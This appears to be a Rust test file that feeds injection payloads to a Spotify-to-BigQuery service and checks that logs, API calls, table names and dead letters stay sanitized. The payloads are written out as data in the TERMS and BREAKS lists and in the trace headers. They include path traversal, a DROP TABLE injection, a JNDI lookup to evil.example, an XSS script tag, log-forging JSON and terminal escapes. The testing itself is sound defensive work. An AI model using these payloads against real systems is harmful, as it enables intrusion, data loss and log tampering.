//! Injection through message values: paths, tables, labels, attributes, log lines. The tests check what the
//! binary prints and sends.

use std::collections::BTreeSet;

use serde_json::{Value, json};

use crate::support::binary::Binary;
use crate::support::spotify::Spotify;
use crate::support::{Push, World, client, message};

const TERMS: [&str; 23] = [
    "../../../v1/me",
    "..%2f..%2fv1%2fme",
    "x?market=US&limit=50&q=y#z",
    "a b+c%20d&type=track",
    "'; DROP TABLE tb_datahackers_limitada; --",
    "`p1.other.table`",
    "tb_datahackers_limitada",
    "a\") UNION SELECT \"",
    "{\"table\":\"podcasts\"}",
    "\"}\\n{\"severity\":\"EMERGENCY\",\"message\":\"owned\"}",
    "\",\"severity\":\"EMERGENCY",
    "${jndi:ldap://evil.example/x}",
    "{{7*7}} {} {0} %s %n",
    "<script>alert(1)</script>",
    "x\u{2028}{\"severity\":\"EMERGENCY\"}",
    "x\u{202e}daolnwod\u{2066}",
    "\u{1f1e7}\u{1f1f7} 日本 é",
    "UPPER_Case-and.dots",
    "ends with _",
    "goog",
    "a\u{fffd}b",
    "0123456789 0123456789 0123456789 0123456789 0123456789 0123456789 0123456789",
    "ﬀ ﬁ Ⅷ ½",
];

/// Line breaks, and characters with a meaning for JSON, terminals and shells. None of these is a valid search
/// term.
const BREAKS: [&str; 9] = [
    "x\n{\"severity\":\"EMERGENCY\",\"message\":\"owned\"}",
    "x\r\nspotify-bq-outcome: loaded",
    "x\u{1b}[2J\u{1b}[1;31mowned",
    "x\0y",
    "x\u{85}y\u{9b}31m",
    "\u{7f}\u{8}\u{8}\u{8}",
    "\\",
    "\"",
    "-",
];

/// Returns messages with each value in each position.
fn pushes() -> Vec<Push> {
    let mut pushes = Vec::new();
    for term in TERMS {
        for table in ["podcasts", "episodes"] {
            pushes.push(message(&json!({"table": table, "search_term": term})));
        }
        pushes.push(message(&json!({"search_term": [term, "other"]})));
    }
    for value in TERMS.iter().chain(&BREAKS) {
        pushes.push(message(&json!({"table": value})));
        pushes.push(message(&json!({"table": "podcasts", *value: 1})));
        pushes.push(message(&json!({"table": "mentions", "search_term": "x", "show_id": value})));
        pushes.push(message(&json!(value)));
        pushes.push(Push { data: (*value).to_owned(), ..message(&json!({})) });
        pushes.push(Push { id: format!("{value}-"), ..message(&json!({"table": "podcasts"})) });
        let bad = message(&json!({"no": 1}));
        pushes.push(Push { id: format!("{value}+"), publish_time: (*value).to_owned(), ..bad });
        let attributes = json!({*value: *value, "reason": *value, "googclient_x": *value});
        pushes.push(Push { attributes, data: String::new(), ..message(&json!({})) });
    }
    for value in BREAKS {
        pushes.push(message(&json!({"table": "podcasts", "search_term": value})));
    }
    pushes
}

async fn push_all(binary: &Binary, pushes: &[Push]) -> usize {
    let client = client();
    for push in pushes {
        let request = client
            .post(&binary.url)
            .header("traceparent", "00-\",\"severity\":\"EMERGENCY\"-x-01")
            .header("x-cloud-trace-context", "0af7651916cd43dd8448eb211c80319\"/1");
        let response = request.body(push.envelope().to_string()).send().await.unwrap();
        assert_eq!(response.status(), 204, "{push:?}");
    }
    pushes.len()
}

#[tokio::test]
async fn values_of_a_message_stay_values() {
    let world = World::new(Spotify::showing(3, 3).await).await.set("LOG_FORMAT", "json");
    let binary = Binary::start(&world.settings).await;
    let count = push_all(&binary, &pushes()).await;
    let printed = binary.end().await;

    // One JSON object per line, one line per message, and no value changes another field.
    let lines: Vec<Value> =
        printed.lines().map(|line| serde_json::from_str(line).expect(line)).collect();
    let messages = lines.iter().filter(|line| line["event"] == "message").count();
    assert_eq!(messages, count);
    assert_eq!(lines.len(), count + 1, "and one line for the start");
    let severities: BTreeSet<&str> =
        lines.iter().map(|line| line["severity"].as_str().unwrap()).collect();
    assert_eq!(severities, BTreeSet::from(["ERROR", "INFO", "WARNING"]));
    assert!(lines.iter().all(|line| line.get("logging.googleapis.com/trace").is_none()));

    // Calls to Spotify have the same form for every term.
    let show = world.spotify.catalog.shows[0]["id"].as_str().unwrap();
    let paths: BTreeSet<String> =
        world.spotify.api_calls().into_iter().map(|call| call.path).collect();
    let expected = ["/v1/search".to_owned(), format!("/v1/shows/{show}/episodes")];
    assert_eq!(paths, BTreeSet::from(expected));
    let mut asked = BTreeSet::new();
    for call in world.spotify.stub.calls_to("GET", "/v1/search") {
        let keys: Vec<&str> = call.query.keys().map(String::as_str).collect();
        assert_eq!(keys, ["limit", "market", "offset", "q", "type"]);
        assert_eq!((call.query("type"), call.query("market")), ("show", "BR"));
        asked.insert(call.query("q").to_owned());
    }
    for term in TERMS {
        assert!(asked.contains(term), "{term}");
    }

    // Names of tables, jobs and labels have only allowed characters.
    let state = world.bigquery.state.lock().unwrap();
    let plain = |text: &str, more: &str| {
        text.chars().all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || more.contains(c))
    };
    assert!(state.tables.len() > TERMS.len());
    for name in state.tables.keys() {
        assert!(plain(name, "_") && name.len() <= 1024, "{name}");
    }
    for (id, job) in &state.jobs {
        assert!(plain(id, "_-"), "{id}");
        for (key, value) in job.configuration["labels"].as_object().unwrap() {
            let value = value.as_str().unwrap();
            assert!(plain(key, "_-") && plain(value, "_-") && value.len() <= 63, "{key}: {value}");
        }
    }
    let own = &state.tables["tb_datahackers_limitada"];
    assert_eq!(own.rows.len(), 3);

    // Dead letters have a detail of one line, and fit Pub/Sub's limits.
    let letters = world.pubsub.published("letters");
    assert!(letters.len() > 6 * BREAKS.len());
    for letter in letters {
        let words = ["refused", "bad_json"];
        assert!(words.contains(&letter.attributes["reason"].as_str()), "{letter:?}");
        assert!(!letter.attributes["detail"].contains(char::is_control), "{letter:?}");
        for (key, value) in &letter.attributes {
            assert!(!key.is_empty() && key.len() <= 256 && value.len() <= 1024, "{letter:?}");
            assert!(!key.starts_with("goog") || key.starts_with("googclient_"), "{letter:?}");
        }
    }
}

#[tokio::test]
async fn a_message_is_one_line_on_a_terminal_too() {
    let world = World::new(Spotify::showing(3, 3).await).await.set("LOG_FORMAT", "text");
    let binary = Binary::start(&world.settings).await;
    let count = push_all(&binary, &pushes()).await;
    let printed = binary.end().await;
    assert_eq!(printed.lines().count(), count + 1);
    let controls: BTreeSet<char> =
        printed.chars().filter(|c| c.is_control() && *c != '\n').collect();
    assert_eq!(controls, BTreeSet::new());
}
